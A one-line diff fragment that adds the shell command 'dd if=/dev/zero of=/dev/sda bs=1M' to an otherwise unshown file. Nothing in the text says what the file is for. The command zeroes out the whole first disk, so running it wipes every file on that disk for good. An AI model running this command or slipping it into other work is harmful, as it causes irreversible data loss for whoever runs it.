@@ -1,0 +1,1 @@
+dd if=/dev/zero of=/dev/sda bs=1M
